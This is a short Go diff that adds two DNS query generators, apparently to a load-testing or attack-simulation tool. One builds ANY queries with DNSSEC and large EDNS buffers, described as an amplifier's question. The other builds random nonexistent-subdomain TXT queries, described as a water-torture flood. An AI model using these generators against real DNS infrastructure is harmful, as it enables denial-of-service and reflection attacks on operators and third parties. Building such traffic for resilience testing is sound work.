@@ -223,3 +223,24 @@ func Sources(first, n int) []string {
 	}
 	return out
 }
+
+// ANYWithDO is the amplifier's question: ANY at zone with DO and a
+// buffer of 4,096 bytes.
+func ANYWithDO(zone string) func(int) *dns.Msg {
+	return func(int) *dns.Msg {
+		m := new(dns.Msg)
+		m.SetQuestion(dns.Fqdn(zone), dns.TypeANY)
+		m.SetEdns0(4096, true)
+		return m
+	}
+}
+
+// RandomNames is a water-torture flood: TXT at names below zone that do
+// not exist.
+func RandomNames(zone string) func(int) *dns.Msg {
+	return func(i int) *dns.Msg {
+		m := new(dns.Msg)
+		m.SetQuestion(fmt.Sprintf("r%x-%d.%s", time.Now().UnixNano(), i, dns.Fqdn(zone)), dns.TypeTXT)
+		return m
+	}
+}
